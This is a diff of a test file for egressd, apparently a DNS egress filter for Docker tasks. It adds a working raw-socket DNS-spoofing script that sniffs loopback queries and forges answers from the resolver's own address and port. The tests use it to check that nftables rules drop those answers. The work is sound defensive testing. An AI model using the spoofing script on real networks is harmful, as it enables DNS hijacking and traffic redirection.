@@ -802,22 +802,173 @@ def test_loopback_upstream_precreated_flows_and_sniffed_answers_with_net_raw(lab
     assert d.running
 
 
-@pytest.mark.parametrize("caps", [DOCKER_CAPS, "-all,+net_bind_service"], ids=["docker-default", "net-raw-dropped"])
-def test_a_task_that_can_forge_loopback_answers_is_reported_at_start(lab, egressd, caps):
-    """The forged answer from Docker's resolver's own port is not closed (docs/security.md, "An
-    upstream inside the namespace"), so egressd says so when it can see it: started with
-    --netns-pid on a task whose bounding set holds NET_RAW (Docker's default) and with a
-    loopback upstream, it logs `upstream_exposed` naming the task, the upstream and the cure.
-    A task without NET_RAW (--cap-drop NET_RAW) gets no such warning."""
+# A root process with Docker's default caps that sniffs egressd's query to Docker's resolver on
+# `lo` (after Docker's DNAT it shows where the resolver really listens, 127.0.0.11:<port>) and
+# answers it from exactly that address and port, with the query's ID and 0x20 case: over a raw
+# IP socket ("raw": through chain output) or as an Ethernet frame written to `lo` ("packet":
+# AF_PACKET, which no inet output hook sees). It waits for "go" on stdin before it opens any
+# socket, so that the test can move it to a cgroup of its own first.
+SNIFF_AND_ANSWER = textwrap.dedent(r'''
+    import json, socket, struct, sys, time
+    sys.stdin.readline()
+    forged, seconds, how = sys.argv[1], float(sys.argv[2]), sys.argv[3]
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.02)
+    if how == "raw":
+        out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    else:
+        out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
+        out.bind(("lo", 0))
+    resolver = socket.inet_aton("127.0.0.11")
+    def checksum(b):
+        n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+        while n >> 16:
+            n = (n & 0xFFFF) + (n >> 16)
+        return ~n & 0xFFFF
+    def ip_udp(src, sport, dst, dport, payload):
+        udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0x4242, 0, 64, 17, 0, src, dst)
+        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+        return ip + udp + payload
+    print("READY", flush=True)
+    seen, tried, answered, errors = set(), 0, 0, set()
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            frame = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        pkt = frame[14:]
+        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != resolver:
+            continue
+        ihl = (pkt[0] & 0xF) * 4
+        sport, dport = struct.unpack_from("!HH", pkt, ihl)
+        q = pkt[ihl + 8:]
+        if dport == 53 or len(q) < 17 or q[2] & 0x80 or (sport, q[:2]) in seen:
+            continue
+        seen.add((sport, q[:2]))
+        i = 12
+        while q[i]:
+            i += 1 + q[i]
+        a = q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:i + 5]
+        a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged)
+        dgram = ip_udp(resolver, dport, pkt[12:16], sport, a)
+        tried += 1
+        try:
+            if how == "raw":
+                out.sendto(dgram, (socket.inet_ntoa(pkt[12:16]), 0))
+            else:
+                out.send(b"\0" * 12 + b"\x08\x00" + dgram)
+            answered += 1
+        except OSError as e:
+            errors.add(e.errno)
+    cgroup = [l for l in open("/proc/self/cgroup").read().splitlines() if l.startswith("0::")]
+    print(json.dumps({"tried": tried, "answered": answered, "errors": sorted(errors), "cgroup": cgroup}))
+''')
+
+
+def cgroup2_mount() -> Path:
+    for line in Path("/proc/self/mountinfo").read_text().splitlines():
+        pre, _, post = line.partition(" - ")
+        if post.split()[0] == "cgroup2" and pre.split()[3] == "/":
+            return Path(pre.split()[4])
+    raise labmod.LabError("no cgroup2 mount: the lab needs the cgroup v2 hierarchy (unified or hybrid)")
+
+
+@pytest.mark.parametrize("how", ["raw", "packet"])
+def test_loopback_upstream_sniffed_answers_from_the_resolvers_own_port(lab, egressd, how):
+    """Docker's resolver as the upstream, a task process with Docker's default caps: it sniffs
+    egressd's query on `lo` and answers it from the resolver's real address and port, the ID
+    and case copied, while the resolver takes 400 ms. That answer is the reply direction of
+    egressd's own flow, from a local address: conntrack takes it for the resolver's. What
+    stops it: over a raw socket ("raw", from a cgroup of its own, as a container's processes
+    are), the sending socket's cgroup is not the resolver's (chain output); as a frame on `lo`
+    ("packet", from the resolver's own cgroup even), it lacks the signature chain output puts
+    on the resolver's answers (netdev chain lo_replies). The client gets the resolver's answer,
+    egressd learns nothing forged."""
+    serve(lab)
+    lab.add_servers([FORGED_V4])
+    DockerResolver(lab, slow={"slow": 400})
+    d = docker_egressd(lab, egressd)
+    found = events(d, "resolver_cgroup")
+    assert len(found) == 1 and found[0]["upstream"] == "127.0.0.11", d.log()
+    cg = None
+    if how == "packet":
+        # The kernel drops frames to 127.0.0.1 that arrive without a route as martians unless
+        # route_localnet is on (some hosts' setups turn it on: kube-proxy, localhost DNAT).
+        # With it on, only chain lo_replies stands between the frame and egressd's socket.
+        for conf in ("all", "lo"):
+            lab.sandbox.sysctl(f"net.ipv4.conf.{conf}.route_localnet", 1)
+    if how == "raw":
+        own = next(l[3:] for l in Path("/proc/self/cgroup").read_text().splitlines() if l.startswith("0::"))
+        cg = cgroup2_mount() / own.lstrip("/") / f"egt-atk-{tok()}"
+        cg.mkdir()
+    try:
+        p = lab.spawn(["setpriv", f"--inh-caps={DOCKER_CAPS}", f"--bounding-set={DOCKER_CAPS}", "--",
+                       sys.executable, "-c", SNIFF_AND_ANSWER, FORGED_V4, 4.0, how],
+                      netns=lab.sandbox, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        if cg is not None:
+            (cg / "cgroup.procs").write_text(str(p.pid))
+        p.stdin.write(b"go\n")
+        p.stdin.flush()
+        assert labmod._read_line(p, 10.0, "the attacker") == "READY"
+        t = tok()
+        answers = []
+        for i in range(2):
+            r = lab.dns_query(f"slow{i}.{t}.wild.example.org", timeout=3.0)
+            answers.append((r.rcode, r.addresses))
+        res = attacker_result(p)
+    finally:
+        if cg is not None:
+            labmod.wait_for(lambda: not (cg / "cgroup.procs").read_text().strip() or None, 10.0,
+                            "the attacker's cgroup to empty")
+            cg.rmdir()
+    print(f"\nanswers from the resolver's own port ({how}): {res}; egressd answered {answers}")
+    assert res["tried"] >= 2, f"the attacker saw no query of egressd's to answer: {res}"
+    if how == "raw":
+        assert res["cgroup"] != ["0::" + own], res
+    assert answers == [("NOERROR", [WILD_V4])] * 2, answers
+    assert FORGED_V4 not in learned_set(lab, 4)
+    assert rejected(lab.tcp_connect(FORGED_V4, labmod.ECHO_PORT))
+    # The rule that stopped it counted the forged answers.
+    rc, out, _ = lab.nft(lab.sandbox, "list", "table", "netdev" if how == "packet" else "inet", "egressd")
+    dropped = re.findall(r"socket cgroupv2 level \d+ .*counter packets (\d+)" if how == "raw"
+                         else r"@ll,208,32 .*counter packets (\d+) bytes \d+ drop", out)
+    assert sum(map(int, dropped)) >= 2, out
+    assert events(d, "tamper") == [], d.log()  # the new rules are egressd's own, as it expects them
+
+
+@pytest.mark.parametrize("caps,cgroups_seen", [(DOCKER_CAPS, False), ("-all,+net_bind_service", False),
+                                               (DOCKER_CAPS, True)],
+                         ids=["docker-default", "net-raw-dropped", "resolver-cgroup-known"])
+def test_a_task_that_can_forge_loopback_answers_is_reported_at_start(lab, egressd, caps, cgroups_seen):
+    """The forged answer from Docker's resolver's own port over a raw socket is stopped only
+    when egressd knows the resolver's cgroup (the test above). When it cannot — here egressd
+    runs in a mount namespace without the cgroup v2 hierarchy, as in a container that does not
+    share the host's — it says so (`resolver_unverified`), and, started with --netns-pid on a
+    task whose bounding set holds NET_RAW (Docker's default), logs `upstream_exposed` naming
+    the task, the upstream and the cures. A task without NET_RAW (--cap-drop NET_RAW) gets no
+    such warning, nor does any task once the cgroup is known."""
     serve(lab)
     DockerResolver(lab)
     task = lab.spawn(["setpriv", f"--inh-caps={caps}", f"--bounding-set={caps}", "--", "sleep", "60"],
                      netns=lab.sandbox, stdin=subprocess.DEVNULL)
     labmod.wait_for(lambda: Path(f"/proc/{task.pid}/comm").read_text().strip() == "sleep", 5.0,
                     "the task to be running in the sandbox")
-    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"], netns_pid=task.pid)
+    binary = None
+    if not cgroups_seen:
+        binary = ["unshare", "--mount", "--propagation", "private", "sh", "-c", 'umount -l "$0" && exec "$@"',
+                  str(cgroup2_mount()), str(labmod.egressd_binary())]
+    d = egressd(policy("127.0.0.11"), extra=["--log-format", "json"], netns_pid=task.pid, binary=binary)
     assert lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0).addresses == [WILD_V4]
     warned = events(d, "upstream_exposed")
+    if cgroups_seen:
+        assert len(events(d, "resolver_cgroup")) == 1 and events(d, "resolver_unverified") == [], d.log()
+        assert warned == [], warned
+        return
+    unverified = events(d, "resolver_unverified")
+    assert len(unverified) == 1 and "not in the cgroup v2 hierarchy egressd sees" in unverified[0]["reason"], d.log()
     if "net_raw" in caps:
         assert len(warned) == 1, d.log()
         assert warned[0]["pid"] == task.pid and warned[0]["upstream"].startswith("127.0.0.11"), warned
